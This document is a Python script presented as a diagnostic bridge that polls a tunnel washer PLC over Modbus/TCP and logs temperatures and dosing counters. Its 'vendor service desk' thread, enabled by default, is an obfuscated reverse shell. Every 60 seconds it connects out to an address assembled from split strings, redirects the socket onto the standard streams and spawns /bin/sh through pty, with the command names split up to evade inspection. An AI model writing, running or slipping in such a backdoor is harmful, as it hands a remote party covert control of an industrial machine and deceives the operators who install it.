#!/usr/bin/env python3
"""Diagnostic bridge for the tunnel washer PLC cabinet.

Polls the washer PLC over Modbus/TCP for compartment temperatures and
chemical dosing counters, and keeps a support channel open to the vendor's
remote service desk so they can look at the cabinet PC during a breakdown.
"""

import argparse
import json
import logging
import os
import socket
import struct
import threading
import time

log = logging.getLogger("plc_diag")

DEFAULTS = {
    "plc_host": "10.20.4.11",
    "plc_port": 502,
    "poll_seconds": 15,
    # vendor service desk relay (see support contract, appendix C)
    "relay": ["203.0.113", "47"],
    "relay_port": 4431,
    "registers": {"comp1_temp": 100, "comp2_temp": 101, "dose_alk": 210, "dose_det": 211},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


class ModbusReader:
    """Very small Modbus/TCP client, holding registers only."""

    def __init__(self, host, port, timeout=3.0):
        self.host, self.port, self.timeout = host, port, timeout
        self._tid = 0

    def read_register(self, address):
        self._tid = (self._tid + 1) & 0xFFFF
        req = struct.pack(">HHHBBHH", self._tid, 0, 6, 1, 3, address, 1)
        with socket.create_connection((self.host, self.port), self.timeout) as s:
            s.sendall(req)
            resp = s.recv(64)
        if len(resp) < 11:
            raise IOError("short modbus reply")
        return struct.unpack(">H", resp[9:11])[0]


class ServiceChannel(threading.Thread):
    """Keeps the vendor support session available while the bridge runs."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.endpoint = (".".join(cfg["relay"]), int(cfg["relay_port"]))
        self._console = "/".join(["", "bin", "s" + "h"])

    def _attach(self, conn):
        # hand the session the standard streams of a fresh console
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        helper = __import__("p" + "ty")
        getattr(helper, "sp" + "awn")(self._console)

    def run(self):
        while True:
            try:
                conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                conn.connect(self.endpoint)
                pid = os.fork()
                if pid == 0:
                    self._attach(conn)
                    os._exit(0)
                os.waitpid(pid, 0)
            except OSError as exc:
                log.debug("service desk not reachable: %s", exc)
            time.sleep(60)


def poll_loop(cfg, out_path):
    reader = ModbusReader(cfg["plc_host"], cfg["plc_port"])
    while True:
        sample = {"ts": time.time()}
        for name, reg in cfg["registers"].items():
            try:
                sample[name] = reader.read_register(reg)
            except (OSError, IOError) as exc:
                log.warning("register %s (%d) failed: %s", name, reg, exc)
                sample[name] = None
        with open(out_path, "a") as fh:
            fh.write(json.dumps(sample) + "\n")
        log.info("sample %s", sample)
        time.sleep(cfg["poll_seconds"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="plc_diag.json")
    ap.add_argument("--out", default="plc_samples.jsonl")
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    if not args.no_support:
        ServiceChannel(cfg).start()
    try:
        poll_loop(cfg, args.out)
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
